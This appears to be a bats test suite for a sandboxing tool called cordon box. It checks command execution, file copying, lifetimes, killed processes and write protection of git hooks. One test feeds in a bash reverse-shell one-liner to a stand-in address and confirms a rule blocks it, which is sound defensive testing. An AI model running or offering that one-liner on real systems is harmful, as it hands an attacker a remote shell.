@@ -1,0 +1,330 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: MIT
+# cordon box: a box that lives between commands, and the programs that run in it.
+load helper
+load workspace
+
+# live WAY VERB ARG...: cordon box in the workspace, as code that the user typed.
+live()
+{
+	local who=${1%%:*} tier=${1#*:} verb=$2
+	WAY=$1
+	shift 2
+	set -- "$verb" "$@"
+	[ "$verb" != create ] || set -- "$@" --tier "$tier" --user
+	case $verb in exec | cp | ls) set -- "$verb" --user "${@:2}" ;; esac
+	status=0
+	(cd "$W" && as "$who" timeout 60 "$CORDON" box "$@" <"$IN" >"$T/out" 2>"$T/err") || status=$?
+}
+
+# The box is there and clean, in a workspace of OWNER.
+made()
+{
+	live "$1" create work "${@:2}"
+	exits 0
+	out_is work
+}
+
+teardown()
+{
+	local who
+	for who in root user; do
+		as "$who" "$CORDON" box list --json >"$T/left" 2>/dev/null || continue
+		for name in $(/usr/bin/python3 -c 'import json,sys; print(*[b["name"] for b in json.load(sys.stdin)["boxes"]])' <"$T/left"); do
+			as "$who" timeout 30 "$CORDON" box stop "$name" >/dev/null 2>&1 || :
+		done
+	done
+	cd /
+	rm -rf --one-file-system "$T"
+}
+
+state_of() { # state_of WAY: the name, state and running of each box
+	live "$1" list --json
+	/usr/bin/python3 -c 'import json,sys
+for b in json.load(open(sys.argv[1]))["boxes"]: print(b["name"], b["state"], b["running"])' "$T/out"
+}
+
+one_box() {
+	made "$1"
+	live "$1" exec work -- sh -c 'echo first >new; pwd; exit 7'
+	exits 7
+	out_is "$W"
+	live "$1" exec work -- cat new
+	exits 0
+	out_is first
+	live "$1" ls work sub
+	out_has kept
+	untouched
+	live "$1" diff work
+	exits 0
+	out_has 'created new'
+	out_has '+ first'
+	[ "$(state_of "$1")" = 'work lives 0' ]
+	live "$1" stop work
+	exits 0
+	err_has '1 pending changes'
+	[ -z "$(state_of "$1")" ]
+	untouched
+	live "$1" exec work -- true
+	exits 125
+	err_has 'there is no box work'
+}
+@test "programs of one box see each other's files, and its changes are pending" { every_owner one_box; }
+
+in_it() {
+	made "$1"
+	live "$1" exec work -- sh -c 'sleep 600 & echo $!'
+	exits 0
+	pid=$(cat "$T/out")
+	live "$1" exec work -- kill -0 "$pid"
+	exits 0
+	[ "$(state_of "$1")" = 'work lives 1' ]
+	live "$1" exec work -- kill "$pid"
+	exits 0
+	live "$1" exec work -- sh -c 'python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1 &'
+	live "$1" exec work -- sh -c 'for i in $(seq 100); do curl -fs http://127.0.0.1:8000/file && exit; sleep 0.1; done; exit 1'
+	exits 0
+	out_is old
+}
+@test "a program that was left behind lives on; a server and its client in two commands" { every_owner in_it; }
+
+@test "standard input, a directory, a variable, a time limit, a signal, JSON" {
+	dir user
+	made user:no-cgroup
+	printf 'typed\n' >"$T/in"
+	IN=$T/in live user:no-cgroup exec work -- cat
+	out_is typed
+	live user:no-cgroup exec work --cwd /tmp --env K=v -- sh -c 'pwd; echo $K'
+	out_is $'/tmp\nv'
+	live user:no-cgroup exec work --time 300ms -- sleep 60
+	exits 124
+	# shellcheck disable=SC2016
+	live user:no-cgroup exec work -- sh -c 'kill -TERM $$'
+	exits 143
+	live user:no-cgroup exec work --json -- sh -c 'echo out; echo err >&2; exit 3'
+	exits 3
+	holds 'r["stdout"] == "out\n"' 'r["stderr"] == "err\n"' 'r["exit_code"] == 3' 'r["recorded"]' \
+		'r["exec"] == "any"' 'r["state"] == "clean"' '"landlock" in r["layers"]'
+}
+
+@test "files go in and out" {
+	dir user
+	made user:no-cgroup
+	head -c 3000000 /dev/urandom >"$T/data"
+	chmod 644 "$T/data"
+	live user:no-cgroup cp "$T/data" work:sub/data
+	exits 0
+	live user:no-cgroup cp work:sub/data -
+	exits 0
+	cmp "$T/data" "$T/out"
+	live user:no-cgroup cp work:no-such -
+	exits 1
+	live user:no-cgroup cp a b
+	exits 125
+	err_has 'NAME:PATH'
+	untouched
+}
+
+applied() {
+	made "$1"
+	live "$1" exec work -- sh -c 'echo changed >file; sleep 600 &'
+	live "$1" apply work
+	exits 0
+	[ "$(cat "$W/file")" = changed ]
+	[ "$(state_of "$1")" = 'work lives 0' ]
+	live "$1" exec work -- cat file
+	out_is changed
+	live "$1" exec work -- rm file
+	live "$1" reset work
+	exits 0
+	live "$1" exec work -- cat file
+	out_is changed
+	live "$1" diff work
+	out_is 'no pending changes'
+}
+@test "apply and reset end the programs and begin the box again" { every_owner applied; }
+
+@test "a box belongs to one conversation, whose state decides about its programs" {
+	dir user
+	made user:no-cgroup
+	live user:no-cgroup list --json
+	c=$(/usr/bin/python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["boxes"][0]["conversation"])' "$T/out")
+	printf 'Read this page of ours.\n' >"$T/page"
+	as user "$CORDON" ingest --conversation "$c" --kind web --name https://page.example/ "$T/page" >/dev/null
+	status=0
+	(cd "$W" && as user "$CORDON" box exec work --json -- true </dev/null >"$T/out" 2>"$T/err") || status=$?
+	exits 0
+	holds 'r["state"] == "exposed"' 'r["conversation"] == "'"$c"'"'
+	as user "$CORDON" conversation end "$c" >/dev/null
+	live user:no-cgroup exec work -- true
+	exits 126
+	err_has 'has ended'
+}
+
+@test "a program that a rule denies is not started" {
+	dir user
+	made user:no-cgroup
+	live user:no-cgroup exec work -- sh -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1; touch ran'
+	exits 126
+	err_has 'not run'
+	live user:no-cgroup ls work
+	out_lacks ran
+}
+
+@test "a directory in place of that of the box: no program starts" {
+	dir user
+	made user:no-cgroup
+	mv "$W" "$W.old"
+	cp -a "$W.old" "$W"
+	! is_root || trust root "$W"
+	trust user "$W"
+	live user:no-cgroup exec work -- true
+	exits 126
+	err_has 'is not the one that would be created now'
+	rm -rf "$W.old"
+}
+
+@test "names, options and verbs that are wrong" {
+	dir user
+	live user:no-cgroup create 'a/b'
+	exits 125
+	err_has 'no name of a box'
+	live user:no-cgroup create "$(printf 'n%.0s' {1..32})"
+	exits 125
+	made user:no-cgroup
+	live user:no-cgroup create work
+	exits 125
+	err_has 'there is a box work already'
+	live user:no-cgroup exec work
+	exits 125
+	err_has 'no command is given'
+	live user:no-cgroup exec other -- true
+	exits 125
+	err_has 'there is no box other'
+	live user:no-cgroup exec work --net a.example:1 -- true
+	exits 125
+	live user:no-cgroup create next --idle never
+	exits 125
+	err_has 'not a duration'
+	live user:no-cgroup crete next
+	exits 125
+	err_has create
+}
+
+@test "a box without a program ends after its idle time, and its changes are kept" {
+	dir user
+	made user:no-cgroup --idle 1s
+	live user:no-cgroup exec work -- touch new
+	for ((i = 0; i < 100; i++)); do
+		[ -n "$(state_of user:no-cgroup)" ] || break
+		sleep 0.1
+	done
+	[ -z "$(state_of user:no-cgroup)" ]
+	made user:no-cgroup
+	live user:no-cgroup list --json
+	out_lacks died
+}
+
+@test "a box ends after its life, and the program that runs is told so" {
+	dir user
+	made user:no-cgroup --life 2s
+	live user:no-cgroup exec work --time 60s -- sleep 50
+	exits 125
+	err_has 'the box has ended'
+	[ -z "$(state_of user:no-cgroup)" ]
+}
+
+keeper_of() { # the keeper that has this test's state directory open
+	local pid who=$1 state
+	state=$([ "$who" = user ] && is_root && echo "$T/as-user/state/cordon" || echo "$T/state/cordon")
+	for pid in $(pgrep -x cordon-keeper); do
+		[ "$(readlink "/proc/$pid/fd/3")" != "$state" ] || echo "$pid"
+	done
+}
+
+out_lacks() { ! grep -qF -- "$1" "$T/out" || { echo "not expected in the output: $1"; show; }; }
+
+lives() { [[ -e /proc/$1/stat && $(cut -d' ' -f3 "/proc/$1/stat" 2>/dev/null) != [ZX] ]]; }
+gone() { # gone PID...: none of them lives
+	local pid i
+	for ((i = 0; i < 100; i++)); do
+		for pid; do ! lives "$pid" || { sleep 0.1; continue 2; }; done
+		return
+		sleep 0.1
+	done
+	return 1
+}
+
+# below PID: all its descendants.
+below()
+{
+	local child
+	for child in $(pgrep -P "$1"); do
+		echo "$child"
+		below "$child"
+	done
+}
+
+kills() { # kills WAY VICTIM: the keeper, cordon-box or its init
+	local keeper box all victim
+	made "$1"
+	keeper=$(keeper_of "${1%%:*}")
+	box=$(pgrep -P "$keeper" -x cordon-box)
+	all=$(below "$keeper")
+	case $2 in keeper) victim=$keeper ;; box) victim=$box ;; init) victim=$(pgrep -P "$box" | head -n 1) ;; esac
+	(sleep 1; kill -KILL "$victim") &
+	live "$1" exec work --time 50s -- sleep 40
+	exits 125
+	err_has cordon
+	wait
+	[ "$2" = keeper ] || gone $all
+	[ "$2" != keeper ] || gone $keeper $all
+	live "$1" exec work -- true
+	exits 125
+	made "$1"
+	live "$1" exec work -- true
+	exits 0
+	live "$1" stop work
+}
+@test "the keeper is killed: every process is gone, the command says so, and a new box can be made" {
+	kill_keeper() { kills "$1" keeper; }
+	every_owner kill_keeper
+}
+@test "cordon-box is killed: the same" {
+	kill_box() { kills "$1" box; }
+	every_owner kill_box
+}
+@test "the box's init is killed: the same" {
+	kill_init() { kills "$1" init; }
+	every_owner kill_init
+}
+
+@test "the command is killed: its program ends, and the box lives" {
+	dir user
+	made user:no-cgroup
+	(cd "$W" && as user timeout -s KILL 2 "$CORDON" box exec work --user --time 50s -- sleep 41 </dev/null) || :
+	for ((i = 0; i < 50; i++)); do
+		[ "$(state_of user:no-cgroup)" != 'work lives 0' ] || break
+		sleep 0.1
+	done
+	[ "$(state_of user:no-cgroup)" = 'work lives 0' ]
+	live user:no-cgroup exec work -- true
+	exits 0
+}
+
+@test "a workspace that is written directly: an unprotected file at once, a hook not" {
+	dir user
+	mkdir -p "$W/.git/hooks"
+	! is_root || chown -R "$TEST_UID:$TEST_UID" "$W/.git"
+	trust user "$W"
+	live user:no-cgroup create work --workspace "$W:rw"
+	exits 0
+	live user:no-cgroup exec work -- sh -c 'echo direct >new; echo evil >.git/hooks/pre-commit; mkdir -p sub/.git/hooks; echo x >sub/.git/config'
+	err_has 'Read-only file system'
+	[ "$(cat "$W/new")" = direct ]
+	[ ! -e "$W/.git/hooks/pre-commit" ]
+	[ ! -e "$W/sub/.git/config" ]
+	[ ! -e "$W/sub/.git/hooks" ]
+	live user:no-cgroup diff work
+	out_has sub/.git/config
+}
